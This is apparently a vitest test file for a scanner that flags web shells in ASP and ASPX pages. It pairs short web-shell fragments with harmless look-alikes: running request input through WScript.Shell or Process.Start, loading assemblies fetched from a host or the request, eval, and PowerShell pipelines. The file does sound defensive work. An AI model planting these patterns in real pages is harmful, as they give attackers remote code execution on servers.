import { describe, expect, it } from 'vitest';
import type { SinkCall } from '../../../src/signatures/behaviour/sinks/sink-call.js';
import { behaviourOf, classic, csharp, jscript, statements, visualBasic } from './pages.js';

type Page = readonly [extension: string, text: string];

const inPage = (code: string): Page => ['aspx', statements(code)];
const inClass = (code: string): Page => ['aspx', csharp(code)];
const inBasic = (code: string): Page => ['aspx', visualBasic(code)];
const inSub = (code: string): Page => inBasic(`Sub P()\r\n${code}\r\nEnd Sub`);
const inClassic = (code: string): Page => ['asp', classic(code)];
const inScript = (code: string): Page => ['asp', jscript(code)];

/** What a page does, and one that looks like it and does not do it. */
type RuleRow = readonly [name: string, told: string, hit: Page, lookAlike: Page];

const ROWS: readonly RuleRow[] = [
  [
    'a process that is started has its input',
    'process Request["q"]',
    inPage('var p = Process.Start("cmd"); p.StandardInput.WriteLine(Request["q"]);'),
    inPage('var p = Process.Find("cmd"); p.StandardInput.WriteLine(Request["q"]);'),
  ],
  [
    'the domain that runs has its methods',
    'create-type Request["q"]',
    inPage('AppDomain.CurrentDomain.CreateInstanceAndUnwrap(Request["q"]);'),
    inPage('AppDomain.Other.CreateInstanceAndUnwrap(Request["q"]);'),
  ],
  [
    'a key of the registry has keys',
    'registry Request["q"]',
    inPage('RegistryKey.OpenBaseKey(h).OpenSubKey("a").SetValue("b", Request["q"]);'),
    inPage('RegistryKey.OpenBaseKey(h).Find("a").SetValue("b", Request["q"]);'),
  ],
  [
    'a key of the registry makes keys',
    'registry Request["q"]',
    inPage('RegistryKey.OpenBaseKey(h).CreateSubKey("a").SetValue("b", Request["q"]);'),
    inPage('RegistryKey.OpenBaseKey(h).Find("a").SetValue("b", Request["q"]);'),
  ],
  [
    'a web socket that is accepted receives',
    'load s.ReceiveAsync(b)',
    inPage('var s = HttpContext.WebSockets.AcceptWebSocketAsync(); s.ReceiveAsync(b); Assembly.Load(b);'),
    inPage('var s = HttpContext.WebSockets.Close(); s.ReceiveAsync(b); Assembly.Load(b);'),
  ],
  [
    'code in a constant is followed',
    `evaluate Request('q')`,
    inScript(`eval("eval(Request('q'))");`),
    inScript(`text("eval(Request('q'))");`),
  ],
  [
    'a command that Basic runs by its name gives rows',
    'sql Request("q")',
    inClassic('Set c = Command()\r\nSet r = c.Execute\r\nr.Open Request("q")'),
    inClassic('Set c = Command()\r\nSet r = c.Cancel\r\nr.Open Request("q")'),
  ],
  ...['MSXML2.XMLHTTP', 'WinHttp.WinHttpRequest.5.1'].map((program): RuleRow => {
    const page = (method: string) =>
      inClassic(
        `Set x = CreateObject("${program}")\r\nx.${method} "GET", Request("u"), False\r\nResponse.Write x.responseText`,
      );
    return ['an answer is of whom the request named', 'respond Request("u")', page('open'), page('abort')];
  }),
  ...['IIf', 'If'].map((name): RuleRow => {
    const page = (choice: string) =>
      inSub(
        `Dim s = ${choice}(a, CreateObject("WScript.Shell"), CreateObject("WScript.Shell"))\r\ns.Run(Request("q"))`,
      );
    return ['a choice is one of two objects', 'process Request("q")', page(name), page('Choose')];
  }),
  [
    'the arguments of a process that is made ready',
    'load Request["q"]',
    inPage('var i = new ProcessStartInfo("a", Request["q"]); Assembly.Load(i.Arguments);'),
    inPage('var i = new ProcessStartInfo("a", Request["q"]); Assembly.Load(i.FileName);'),
  ],
  [
    'data is not kept in the context',
    'load Request["q"]',
    inPage('Context2.Add(Request["q"]); Assembly.Load(Context2);'),
    inPage('HttpContext.Add(Request["q"]); Assembly.Load(HttpContext);'),
  ],
  ...['System', 'Convert', 'String'].map(
    (name): RuleRow => [
      'data is not kept in a name of the framework',
      'load Request["q"]',
      inPage('Systems.Add(Request["q"]); Assembly.Load(Systems);'),
      inPage(`${name}.Add(Request["q"]); Assembly.Load(${name});`),
    ],
  ),
  [
    'the route of a request',
    'load c.RequestContext.RouteData',
    inPage('Assembly.Load(c.RequestContext.RouteData.Values["a"]);'),
    inPage('Assembly.Load(c.RequestContext.RouteTable.Values["a"]);'),
  ],
  [
    'the application of a context',
    'load Request["q"]',
    inPage('c.Application["k"] = Request["q"]; Assembly.Load(Application["k"]);'),
    inPage('c.Applications["k"] = Request["q"]; Assembly.Load(Application["k"]);'),
  ],
  [
    'a file that is downloaded and loaded',
    'load Request["u"]',
    inPage('var t = T(); c.DownloadFile(Request["u"], t); Assembly.LoadFile(t);'),
    inPage('var t = T(); c.UploadFile(Request["u"], t); Assembly.LoadFile(t);'),
  ],
  ...['new WebClient().DownloadString("http://a/")', 'new WebClient().OpenRead("http://a/")'].map(
    (answer): RuleRow => [
      'the answer of another host',
      `load ${answer}`,
      inPage(`Assembly.Load(${answer});`),
      inPage('Assembly.Load(new WebClient().UploadString("http://a/", "b"));'),
    ],
  ),
  [
    'the answer of another host, by a client',
    'load c.GetAsync("http://a/")',
    inPage('HttpClient c = New(); Assembly.Load(c.GetAsync("http://a/"));'),
    inPage('HttpClient c = New(); Assembly.Load(c.PostAsync("http://a/", b));'),
  ],
  [
    'the stream of an answer',
    'load r.GetResponseStream()',
    inPage('Assembly.Load(r.GetResponseStream());'),
    inPage('Assembly.Load(r.GetResponseLength());'),
  ],
  [
    'a type that an assembly makes',
    'process Request["q"]',
    inPage('a.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")).Run(Request["q"]);'),
    inPage('a.FindInstance(Type.GetTypeFromProgID("WScript.Shell")).Run(Request["q"]);'),
  ],
  ...['byte', 'char', 'object', 'int', 'sbyte'].map(
    (type): RuleRow => [
      `a list of ${type} is not its length`,
      'load Request["q"]',
      inPage('var b = new Buffer(Request["q"]); Assembly.Load(b);'),
      inPage(`var b = new ${type}[Request["q"]]; Assembly.Load(b);`),
    ],
  ),
  [
    'a method that a list is given to',
    'load Request["q"]',
    inPage('Split(Request["q"]).ForEach(Assembly.Load);'),
    inPage('Split(Request["q"]).ForEach(Assembly.Name);'),
  ],
  ...['Read', 'CopyTo'].map(
    (method): RuleRow => [
      'only the first argument is read into',
      'load Request.InputStream',
      inPage('Request.InputStream.GetBytes(a, b); Assembly.Load(b);'),
      inPage(`Request.InputStream.${method}(a, b); Assembly.Load(b);`),
    ],
  ),
  [
    'data that a member of an object is filled with',
    'load Request.InputStream',
    inPage('var o = New(); Request.InputStream.Read(o.Buffer, 0, 9); Assembly.Load(o);'),
    inPage('var o = New(); Request.InputStream.Read(p.Buffer, 0, 9); Assembly.Load(o);'),
  ],
  [
    'data that an element of a list is given',
    'load Request["q"]',
    inPage('var l = New(); l[0].Add(Request["q"]); Assembly.Load(l);'),
    inPage('var l = New(); l[0].Find(Request["q"]); Assembly.Load(l);'),
  ],
  [
    'data that stands behind an operator',
    'load s.Receive(&b)',
    inPage('var b = New(); s.Receive(&b); Assembly.Load(b);'),
    inPage('var b = New(); s.Release(&b); Assembly.Load(b);'),
  ],
  [
    'a file that is written and started',
    'process Request["q"]',
    inPage('File.WriteAllBytes("t\\\\a.exe", Request["q"]); Process.Start("c:\\\\t\\\\a.exe");'),
    inPage('File.WriteAllBytes("t\\\\a.exe", Request["q"]); Process.Start("c:\\\\t\\\\b.exe");'),
  ],
  [
    'a file that is written and unpacked',
    'unpack Request["q"]',
    inPage('File.WriteAllBytes("t\\\\a.zip", Request["q"]); ZipFile.ExtractToDirectory("c:\\\\t\\\\a.zip", d);'),
    inPage('File.WriteAllBytes("t\\\\a.zip", Request["q"]); ZipFile.ExtractToDirectory("c:\\\\t\\\\b.zip", d);'),
  ],
  [
    'a file of no known name is not the one that is loaded',
    'load Request["q"]',
    inPage('var t = T(); File.WriteAllBytes(t, Request["q"]); Assembly.LoadFile(t);'),
    inPage('File.WriteAllBytes(T(1), Request["q"]); Assembly.LoadFile(U(2));'),
  ],
  [
    'one of two objects, where the first may be nothing',
    'process Request["q"]',
    inPage('Process p = Get(); (p ?? o).StandardInput.Write(Request["q"]);'),
    inPage('Process p = Get(); (p + o).StandardInput.Write(Request["q"]);'),
  ],
  [
    'one of two objects of a script',
    'process Request("q")',
    inScript('var s = new ActiveXObject("WScript.Shell") || t; s.Run(Request("q"));'),
    inScript('var s = new ActiveXObject("WScript.Shell") + t; s.Run(Request("q"));'),
  ],
  [
    'what was given to a process decides what it starts',
    'process Request["q"]',
    inPage('Process p = Get(); p.Load(Request["q"]); p.Start();'),
    inPage('Worker p = Get(); p.Load(Request["q"]); p.Start();'),
  ],
  [
    'what was given to a pipeline decides what it runs',
    'powershell Request["q"]',
    inPage('Pipeline p = Get(); p.Add(Request["q"]); p.Invoke();'),
    inPage('Worker p = Get(); p.Add(Request["q"]); p.Invoke();'),
  ],
  [
    'what evaluates is not hidden by a variable of its name',
    'evaluate Request("q")',
    inScript('var eval = other(); eval(Request("q"));'),
    inScript('var e = other(); e(Request("q"));'),
  ],
  [
    'an object that is made without new',
    'process Request("q")',
    inScript('ActiveXObject("WScript.Shell").Run(Request("q"));'),
    inScript('ActiveObject("WScript.Shell").Run(Request("q"));'),
  ],
  [
    'a cast to any object',
    'process Request["q"]',
    inPage('Process p = Get(); ((object)p).StandardInput.Write(Request["q"]);'),
    inPage('Process p = Get(); ((Reader)p).StandardInput.Write(Request["q"]);'),
  ],
  [
    'a cast to no type that has a name',
    'process Request("q")',
    inSub('Dim p As Process = Find()\r\nDim x = CType(p, (A, B))\r\nx.StandardInput.Write(Request("q"))'),
    inSub('Dim p As Process = Find()\r\nDim x = CType(p, A)\r\nx.StandardInput.Write(Request("q"))'),
  ],
  [
    'an element that is an object by its class id',
    'process Request("q")',
    [
      'asp',
      '<object id="s" runat="server" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><% s.Run Request("q") %>',
    ],
    [
      'asp',
      '<object id="s" runat="server" classid="clsid:72C24DD5-D70A-438B-8A42-000000000000"></object><% s.Run Request("q") %>',
    ],
  ],
  [
    'a directory by its address',
    'account Request("q")',
    inClassic('GetObject("LDAP://dc=a").Create "user", Request("q")'),
    inClassic('GetObject("IIS://dc=a").Create "user", Request("q")'),
  ],
  [
    'a file that a method of a file opens',
    'write Request["q"]',
    inPage('new FileInfo("a").Replacement().Write(Request["q"]);'),
    inPage('new Item("a").Replacement().Write(Request["q"]);'),
  ],
  [
    'what is saved of an upload, whatever it was made',
    'write Request.Files',
    inPage('Bitmap b = New(Request.Files[0]); b.SaveAs("a");'),
    inPage('Bitmap b = New("a"); b.SaveAs(Request.Files[0].FileName);'),
  ],
  [
    'places in a text become characters again',
    'evaluate Request("q")',
    inClassic('n = InStr("0123", Request("q"))\r\nExecute Chr(n)'),
    inClassic('n = StrComp("0123", Request("q"))\r\nExecute Chr(n)'),
  ],
  [
    'a truth carries nothing',
    'load Request["q"]',
    inPage('Assembly.Load(~Request["q"]);'),
    inPage('Assembly.Load(!Request["q"]);'),
  ],
  [
    'a truth of Basic carries nothing',
    'load Request("q")',
    inSub('Assembly.Load(+Request("q"))'),
    inSub('Assembly.Load(Not Request("q"))'),
  ],
  [
    'a query of a text that was made',
    'compile Request["q"]',
    inPage('var t = Decrypt(Request["q"]).Trim(); rows.AsQueryable().Where(t);'),
    inPage('var t = Decrypt(Request["q"]).Parts(); rows.AsQueryable().Where(t);'),
  ],
  [
    'a query of Visual Basic',
    'compile Request("q")',
    inSub('rows.AsQueryable().Where(Request("q"))'),
    inSub('rows.AsEnumerable().Where(Request("q"))'),
  ],
  [
    'a stream to another host, opened in the background',
    'write Request["q"]',
    inPage('new StreamWriter(r.GetStreamAsync2()).Write(Request["q"]);'),
    inPage('new StreamWriter(r.GetRequestStreamAsync()).Write(Request["q"]);'),
  ],
  [
    'the arguments of a process, set while it is made',
    'process Request["q"]',
    inPage('var p = new ProcessStartInfo { Arguments = Request["q"] };'),
    inPage('var p = new ProcessStartInfo { Verb = Request["q"] };'),
  ],
  ...['Type', 'Delegate', 'ConstructorInfo', 'string', 'Array'].map((type): RuleRow => {
    const page = (of: string) => inClass(`void P(${of} t) { t.Load(Request["q"]); t.Invoke(null); }`);
    return [`a ${type} that the request chose is invoked`, 'invoke Request["q"]', page(type), page('Worker')];
  }),
  ...['String', 'Number', 'Array', 'Object', 'parseInt', 'unescape', 'ActiveXObject'].map((name): RuleRow => {
    const page = (called: string) => inScript(`with (find(Request("q"))) { eval(${called}("a")); }`);
    return [`${name} is not of what With is of`, 'evaluate Request("q")', page('text'), page(name)];
  }),
];

const callsOf = ([extension, text]: Page): readonly SinkCall[] => behaviourOf(extension, text).calls;
const told = (page: Page) =>
  callsOf(page).flatMap(({ kind, main: { taint } }) => (taint === null ? [] : `${kind} ${taint.source.what}`));

describe('rules', () => {
  it.each(ROWS)('%s: %s', (_, line, hit, lookAlike) => {
    expect(told(hit)).toContain(line);
    expect(told(lookAlike)).not.toContain(line);
  });

  it.each([
    ['of a folder', 'foreach (FileInfo f in new DirectoryInfo("C:\\\\a").GetFiles()) f.Delete();', 'C:\\a'],
    [
      'of a folder, of whatever kind',
      'foreach (var f in new DirectoryInfo("C:\\\\a").GetFiles()) f.Delete();',
      'C:\\a',
    ],
    ['by its name', 'CreateObject("Scripting.FileSystemObject").GetFile("C:\\\\a").Delete();', 'C:\\a'],
    [
      'of a folder of FileSystemObject',
      'foreach (var f in CreateObject("Scripting.FileSystemObject").GetFolder("C:\\\\a").Files) f.Delete();',
      'C:\\a',
    ],
    ['that is an order', 'foreach (Order f in new DirectoryInfo("C:\\\\a").GetFiles()) f.Delete();', undefined],
  ])('a file %s is deleted', (_, code, path) => {
    expect(callsOf(inPage(code)).find(({ kind }) => kind === 'delete')?.target?.constant).toBe(path);
  });

  it('a file that is made has its path', () => {
    const target = (type: string) =>
      callsOf(inPage(`new ${type}(Request["p"]).Create().Write(Request["q"]);`))[0]?.target?.taint?.source.what;
    expect([target('FileInfo'), target('Item')]).toEqual(['Request["p"]', undefined]);
  });

  it.each([
    ['Path.Combine', 'b.aspx'],
    ['string.Concat', 'b.aspx'],
    ['Path.Change', undefined],
  ])('a path by %s ends like its last part', (name, suffix) => {
    expect(callsOf(inPage(`File.WriteAllText(${name}(a, "b.aspx"), c);`))[0]?.target?.suffix).toBe(suffix);
  });

  it.each([
    ['typeof(MachineKeySection)', true],
    ['MachineKeySection.Default', true],
    ['System.Web.Configuration.MachineKeySection', true],
    ['(MachineKeySection)a', true],
    ['MachineSection.Default', false],
    ['System.Web.Configuration.PagesSection', false],
  ])('the keys of the machine are named by %s: %s', (code, named) => {
    expect(behaviourOf(...inPage(`var a = ${code};`)).names.has('machinekeysection')).toBe(named);
  });

  it.each([
    ['EndsWith', true],
    ['Contains', true],
    ['IndexOf', true],
    ['IsMatch', true],
    ['StartsWith', false],
    ['Length', false],
  ])('%s, given to a list, checks the name of an upload: %s', (name, checks) => {
    expect(behaviourOf(...inPage(`if (l.Any(Request.Files[0].FileName.${name})) a();`)).checksNames).toBe(checks);
  });

  it('data comes of controls that upload', () => {
    const origin = (type: string) =>
      callsOf(inPage(`${type} c = Find(); Assembly.Load(c.Value);`))[0]?.main.taint?.origin;
    expect(['FileUpload', 'HtmlInputFile', 'TextBox'].map(origin)).toEqual(['upload', 'upload', 'control']);
  });

  it.each([
    ['#680', 'process'],
    ['WinExec', 'process'],
    ['VirtualAlloc', 'native-memory'],
    ['GetTickCount', undefined],
  ])('a function of Windows goes by another name in Basic: %s', (alias, kind) => {
    const page = inBasic(
      `Declare Function Z Lib "shell32" Alias "${alias}" (a As String) As Integer\r\nSub P()\r\nZ(Request("q"))\r\nEnd Sub`,
    );
    expect(callsOf(page).map((call) => call.kind)).toEqual(kind === undefined ? [] : [kind]);
  });
});
